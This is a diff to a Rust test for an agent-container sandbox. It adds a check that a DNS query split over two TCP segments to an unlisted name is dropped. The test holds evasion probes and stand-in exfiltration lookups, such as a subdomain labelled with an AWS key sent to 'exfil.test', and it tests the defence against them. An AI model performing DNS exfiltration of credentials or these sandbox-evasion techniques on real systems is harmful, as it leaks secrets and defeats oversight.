@@ -1353,7 +1353,8 @@ fn line<'a>(out: &'a str, key: &str) -> &'a str {
 /// (clamped to 5 s). A hardcoded address, an address another agent
 /// resolved, and an address after its TTL are refused (EPERM); a query
 /// for an unlisted name is dropped in the kernel (the server never sees
-/// it; a UDP send fails with EPERM) and alerted with the name; binding port 53 (to answer oneself) is
+/// it; a UDP send fails with EPERM; a TCP query split over segments is
+/// unreadable, so dropped too) and alerted with the name; binding port 53 (to answer oneself) is
 /// refused. Reading a credential then takes even the allowed names away,
 /// but not from a sibling agent container. An unlabelled container runs
 /// the same script untouched.
@@ -1367,6 +1368,8 @@ fn agents_reach_only_what_allowed_names_resolved_to() {
     let (_t2, t2) = http_target("dns-t2");
     let (_t3, t3) = http_target("dns-t3");
     let exfil = "c2vjcmv0-aws-key.exfil.test";
+    // A query split over two TCP segments (one byte, then the rest).
+    let split = "c3bsaxq.exfil.test";
     let zone = [
         ("api.agent.test", Rec::A(t1), 1),
         ("mirror.pkg.test", Rec::Cname("edge.cdn.test".into()), 60),
@@ -1398,6 +1401,7 @@ fn agents_reach_only_what_allowed_names_resolved_to() {
         echo \"resolver $(got evade dns-query {t3} api.agent.test)\"; \
         echo \"evil $(got evade dns-query {gw} evil.test)\"; \
         echo \"exfil $(got evade dns-query {gw} {exfil} tcp)\"; \
+        echo \"split $(got evade dns-query {gw} {split} tcp-split)\"; \
         echo \"bind $(got evade bind53)\"; \
         echo \"tcp $(got evade dns-connect {gw} api.agent.test 8080 tcp)\"; \
         echo \"again $(got evade connect {t1} 8080)\"; \
@@ -1437,9 +1441,12 @@ fn agents_reach_only_what_allowed_names_resolved_to() {
     assert!(seen.iter().any(|n| n == "api.agent.test"), "{seen:?}");
     assert!(seen.iter().any(|n| n == "mirror.pkg.test"), "{seen:?}");
     assert!(
-        !seen.iter().any(|n| n == "evil.test" || n == exfil),
+        !seen
+            .iter()
+            .any(|n| n == "evil.test" || n == exfil || n == split),
         "a dropped query reached the server: {seen:?}"
     );
+    assert!(line(&agent, "split").starts_with("err"), "{agent}");
     // The sibling agent: its own lookups work, the other agent's do not.
     let sib = run_with_evade(
         "dns-sibling",
